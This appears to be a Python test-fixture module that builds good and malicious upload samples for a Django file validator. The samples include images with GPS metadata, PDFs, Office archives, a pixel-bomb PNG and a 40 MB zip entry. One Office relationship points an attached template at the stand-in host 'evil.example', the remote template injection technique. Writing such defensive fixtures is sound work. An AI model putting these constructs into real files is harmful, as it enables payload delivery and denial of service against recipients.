"""Files that people send, good and bad, made here byte by byte."""

import io
import struct
import zipfile
import zlib
from typing import Any

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

OFFICE = "application/vnd.openxmlformats-officedocument"
WORD_TYPES = f'<Types><Override ContentType="{OFFICE}.wordprocessingml.document.main+xml"/></Types>'
EXCEL_TYPES = f'<Types><Override ContentType="{OFFICE}.spreadsheetml.sheet.main+xml"/></Types>'
REMOTE_TEMPLATE = (
    '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships'
    '/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
ODT = "application/vnd.oasis.opendocument.text"


def sent(name: str, content: bytes, media_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, media_type)


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40), **options: Any) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", size, "teal").save(made, kind, **options)
    return made.getvalue()


def picture_with_gps() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6  # turned: the camera lay on its side
    exif[0x010F] = "Secret Camera"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (52.0, 38.0, 12.0)
    return picture(size=(60, 40), exif=exif)


def pdf(*objects: str, tail: bytes = b"") -> bytes:
    body = "\n".join(objects or ("1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj", "2 0 obj<</Type/Pages/Count 0>>endobj"))
    return f"%PDF-1.7\n{body}\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n".encode() + tail


def pdf_with_packed(content: str) -> bytes:
    packed = zlib.compress(content.encode())
    begin = f"%PDF-1.7\n3 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length {len(packed)}>>stream\n".encode()
    return begin + packed + b"\nendstream endobj\nstartxref\n9\n%%EOF\n"


def archive(pieces: dict[str, str | bytes], *, comment: bytes = b"") -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in pieces.items():
            packed.writestr(name, content)
        packed.comment = comment
    return made.getvalue()


def word(**more: str | bytes) -> bytes:
    return archive({"[Content_Types].xml": WORD_TYPES, "word/document.xml": "<w:document/>", **more})


def excel(**more: str | bytes) -> bytes:
    return archive({"[Content_Types].xml": EXCEL_TYPES, "xl/workbook.xml": "<workbook/>", **more})


def open_document(**more: str | bytes) -> bytes:
    return archive({"mimetype": ODT, "content.xml": "<office:document-content/>", **more})


def huge_png() -> bytes:
    """A PNG of a few bytes that says it has 40,000 by 40,000 points."""
    head = struct.pack(">IIBBBBB", 40_000, 40_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in ((b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 1000)), (b"IEND", b""))
    )


def bomb() -> bytes:
    return word(**{"word/media/x.xml": b"0" * 40_000_000})
